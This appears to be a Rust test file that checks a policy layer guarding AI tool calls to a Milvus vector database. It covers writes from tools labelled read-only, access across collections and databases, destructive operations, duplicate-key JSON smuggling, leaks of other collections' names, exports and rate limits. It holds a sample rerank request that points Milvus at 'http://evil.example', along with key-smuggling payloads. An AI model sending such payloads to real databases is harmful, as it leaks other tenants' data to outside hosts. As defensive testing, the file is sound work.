//! More than the call is for, and more than the operator allows. The recorder says what arrived, the audit which rule
//! held.

use host_harness::{CallError, Endpoint, LimitKind, Mode, Names, Policy, Retry};
use serde_json::{Value, json};

use super::{Seen, Stage, attacks};
use crate::servers::{Recorder, ok};

const DELETE: &str = "/v2/vectordb/entities/delete";
const DESCRIBE: &str = "/v2/vectordb/collections/describe";
const DROP: &str = "/v2/vectordb/collections/drop";
const INSERT: &str = "/v2/vectordb/entities/insert";
const LIST: &str = "/v2/vectordb/collections/list";
const QUERY: &str = "/v2/vectordb/entities/query";
const SEARCH: &str = "/v2/vectordb/entities/search";

/// A search that has Milvus ask a model elsewhere.
const RERANK: &str = r#"{"collectionName":"docs","data":[[1]],"limit":1,"functionScore":{"functions":[
    {"name":"f","type":"Rerank","inputFieldNames":["t"],"outputFieldNames":[],
     "params":{"reranker":"model","provider":"tei","endpoint":"http://evil.example"}}],"params":{}}}"#;

/// What a call about the collection `docs` sends to `milvus`. The guest says of its attacks that they only read.
async fn sends(milvus: &Recorder, policy: Policy, path: &str, body: &str) -> Seen {
    let endpoint = Endpoint::builder(&milvus.uri(), policy).build();
    let arguments = json!({"collection_name": "docs", "path": path, "body": body});
    Stage::wide()
        .attack_at(
            &endpoint.expect("an origin"),
            attacks::ANOTHER_OPERATION,
            arguments,
        )
        .await
}

/// Each of `requests` is refused by its rule, and nobody is connected to.
async fn each_is_refused(policy: &Policy, requests: &[(&str, &str, &str)]) {
    let milvus = Recorder::start();
    for (path, body, rule) in requests {
        let seen = sends(&milvus, policy.clone(), path, body).await;
        assert_eq!(
            (seen.rules(), seen.sent()),
            (vec![*rule], 0),
            "{body}: {seen:?}"
        );
    }
    assert_eq!(milvus.connections(), 0);
}

fn names(list: &[&str]) -> Names {
    Names::parse(list.iter().copied()).expect("names")
}

#[tokio::test]
async fn t26_a_tool_that_says_it_reads_changes_nothing() {
    each_is_refused(
        &Policy::full(),
        &[
            (
                INSERT,
                r#"{"collectionName":"docs","data":[{"id":1}]}"#,
                "tool-effect",
            ),
            (
                DELETE,
                r#"{"collectionName":"docs","filter":"id >= 0"}"#,
                "tool-effect",
            ),
            (DROP, r#"{"collectionName":"docs"}"#, "tool-effect"),
        ],
    )
    .await;
}

#[tokio::test]
async fn t26_a_call_about_one_collection_reaches_no_other() {
    each_is_refused(
        &Policy::full(),
        &[
            (
                QUERY,
                r#"{"collectionName":"hr","filter":""}"#,
                "call-collection",
            ),
            (DESCRIBE, r#"{"collectionName":"hr"}"#, "call-collection"),
        ],
    )
    .await;
    let milvus = Recorder::start();
    let body = r#"{"collectionName":"docs","filter":""}"#;
    let seen = sends(&milvus, Policy::full(), QUERY, body).await;
    assert_eq!((seen.sent(), milvus.requests().len()), (1, 1), "{seen:?}");
    assert_eq!(milvus.requests()[0].body, body.as_bytes());
}

#[tokio::test]
async fn t26_a_call_in_one_database_reaches_no_other() {
    let milvus = Recorder::start();
    let query = r#"{"collectionName":"docs","filter":"","dbName":"tenant_b"}"#;
    for (database, body) in [
        (Some("tenant_a"), query),
        (
            Some("tenant_a"),
            r#"{"collectionName":"docs","filter":"","dbName":"default"}"#,
        ),
        (Some("tenant_a"), r#"{"collectionName":"docs","filter":""}"#),
        (None, query),
    ] {
        let endpoint = Endpoint::builder(&milvus.uri(), Policy::full());
        let endpoint = match database {
            Some(database) => endpoint.database(database),
            None => endpoint,
        };
        let arguments = json!({"collection_name": "docs", "path": QUERY, "body": body});
        let seen = Stage::wide()
            .attack_at(
                &endpoint.build().expect("an origin"),
                attacks::ANOTHER_OPERATION,
                arguments,
            )
            .await;
        let expected = (vec!["call-database"], 0);
        assert_eq!((seen.rules(), seen.sent()), expected, "{body}: {seen:?}");
    }
    assert_eq!(milvus.connections(), 0);
}

#[tokio::test]
async fn t29_what_loses_data_is_refused_whatever_it_is_called() {
    each_is_refused(
        &Policy::new(Mode::NoDrop),
        &[
            (
                DELETE,
                r#"{"collectionName":"docs","filter":"id >= 0"}"#,
                "effect",
            ),
            (
                "/v2/vectordb/collections/truncate",
                r#"{"collectionName":"docs"}"#,
                "effect",
            ),
            (
                "/v2/vectordb/collections/release",
                r#"{"collectionName":"docs"}"#,
                "effect",
            ),
            (
                "/v2/vectordb/collections/alter_properties",
                r#"{"collectionName":"docs","properties":{"collection.ttl.seconds":1}}"#,
                "effect",
            ),
        ],
    )
    .await;
}

#[tokio::test]
async fn t15_a_key_that_two_readers_would_take_differently_is_refused() {
    each_is_refused(
        &Policy::full(),
        &[
            (
                QUERY,
                r#"{"collectionName":"docs","collectionName":"hr"}"#,
                "duplicate-key",
            ),
            (
                QUERY,
                r#"{"collectionName":"docs","collection\u004eame":"hr"}"#,
                "duplicate-key",
            ),
            (
                QUERY,
                r#"{"collectionName":"docs","COLLECTIONNAME":"hr"}"#,
                "key",
            ),
            (
                QUERY,
                r#"{"collectionName":"docs"}{"collectionName":"hr"}"#,
                "json",
            ),
            (QUERY, r#"{"collectionName":"docs","dbName":null}"#, "name"),
        ],
    )
    .await;
}

#[tokio::test]
async fn t18_where_databases_are_listed_one_has_to_be_named() {
    let listed = Policy::full().databases(names(&["sales"]));
    each_is_refused(
        &listed,
        &[
            (QUERY, r#"{"collectionName":"docs"}"#, "database"),
            (
                QUERY,
                r#"{"collectionName":"docs","dbName":"default"}"#,
                "database",
            ),
            (LIST, "{}", "database"),
        ],
    )
    .await;
}

#[tokio::test]
async fn t27_milvus_is_not_sent_to_a_third_party() {
    each_is_refused(&Policy::full(), &[(SEARCH, RERANK, "effect")]).await;
}

#[tokio::test]
async fn t28_t65_the_audit_names_all_classes_of_what_was_let_out() {
    let milvus = Recorder::start();
    let policy = Policy::full().outside("http://evil.example").outside("tei");
    let seen = sends(&milvus, policy, SEARCH, RERANK).await;
    assert_eq!(seen.sent(), 1, "{seen:?}");
    assert_eq!(seen.requests[0]["effect"], "read,outbound");
}

#[tokio::test]
async fn t25_a_list_comes_without_foreign_names() {
    let milvus = Recorder::answering(|_| {
        ok(
            "application/json",
            br#"{"code":0,"data":["docs","payroll","docs_2"]}"#,
        )
    });
    let listed = Policy::full().collections(names(&["docs", "docs_*"]));
    let seen = sends(&milvus, listed, LIST, "{}").await;
    let told = seen.answer.expect("an answer");
    assert_eq!(told["body"], r#"{"code":0,"data":["docs","docs_2"]}"#);
}

#[tokio::test]
async fn t24_an_answer_about_another_collection_is_withheld() {
    let milvus = Recorder::answering(|request| {
        let answer: &[u8] = match request.path() {
            DESCRIBE => br#"{"code":0,"data":{"collectionName":"payroll","aliases":["docs"]}}"#,
            _ => br#"{"code":1600,"message":"alias not found"}"#,
        };
        ok("application/json", answer)
    });
    let listed = Policy::full().collections(names(&["docs"]));
    let seen = sends(&milvus, listed, DESCRIBE, r#"{"collectionName":"docs"}"#).await;
    assert_eq!(seen.requests[0]["withheld"], "answer", "{seen:?}");
    assert!(!seen.told().contains("payroll"), "{seen:?}");
}

#[tokio::test]
async fn t14_an_empty_list_lets_nothing_be_named() {
    each_is_refused(
        &Policy::full().collections(names(&[])),
        &[
            (QUERY, r#"{"collectionName":"docs"}"#, "collection"),
            (
                "/v2/vectordb/common/run_analyzer",
                r#"{"text":["a"]}"#,
                "nameless",
            ),
        ],
    )
    .await;
}

/// A place that the operator names lets Milvus be told of it by tools that say so, not by one that says it reads.
#[tokio::test]
async fn t26_a_tool_that_says_it_reads_exports_nothing_to_a_place_that_is_let_out() {
    let export = "/v2/vectordb/jobs/snapshot/export";
    let body = r#"{"collectionName":"docs","snapshotName":"s","targetS3Path":"s3://exports/x"}"#;
    let policy = Policy::read_only().outside("s3://exports/");
    each_is_refused(&policy, &[(export, body, "tool-effect")]).await;
}

#[tokio::test]
async fn t83_a_call_that_succeeds_says_how_many_of_its_requests_were_refused() {
    let milvus = Recorder::start();
    // A host of its own: the turns of the shared one are its stage's.
    let (at, stage) = (
        super::endpoint(&milvus.uri()),
        Stage::new(host_harness::Limits::default()),
    );
    for (tool, arguments, refused) in [
        (attacks::ORDINARY_REQUEST, "{}", 0),
        (
            attacks::ANOTHER_PATH,
            r#"{"path":"/v2/vectordb/users/create"}"#,
            1,
        ),
    ] {
        let answer = stage
            .host
            .call_tool(&at, tool, arguments)
            .await
            .expect("the guest answers");
        assert_eq!(answer.refused, refused, "{tool}: {answer}");
    }
}

#[tokio::test]
async fn t55_a_tool_that_is_not_listed_lets_nothing_out() {
    let milvus = Recorder::start();
    let endpoint = super::endpoint(&milvus.uri());
    let seen = Stage::wide()
        .attack_at(&endpoint, "ordinary_request_in_disguise", Value::Null)
        .await;
    assert_eq!((seen.sent(), milvus.connections()), (0, 0), "{seen:?}");
}

#[tokio::test]
async fn t30_the_eleventh_load_of_a_minute_is_refused_and_says_when_to_come_back() {
    let milvus = Recorder::start();
    let endpoint = super::endpoint(&milvus.uri());
    let stage = crate::servers::local::Stage::before(endpoint);
    let arguments = json!({"collection_name": "docs"}).to_string();
    for _ in 0..10 {
        let _ = stage.try_call("milvus_load_collection", &arguments).await;
    }
    assert_eq!(milvus.requests().len(), 10);
    let refused = stage
        .try_call("milvus_load_collection", &arguments)
        .await
        .expect_err("is refused");
    let CallError::Limit {
        limit,
        value: 10,
        error: Some(error),
    } = &refused
    else {
        panic!("{refused:?}")
    };
    assert_eq!(*limit, LimitKind::AdminPerMinute);
    let wait = error.retry_after_ms.expect("when to come back");
    assert!((30_000..=60_000).contains(&wait), "{error:?}");
    assert_eq!(error.retry, Retry::Safe, "{error:?}");
    assert_eq!(milvus.requests().len(), 10);
    // Another endpoint of the same server has a minute of its own.
    let other = crate::servers::local::Stage::before(super::endpoint(&milvus.uri()));
    let _ = other.try_call("milvus_load_collection", &arguments).await;
    assert_eq!(milvus.requests().len(), 11);
}
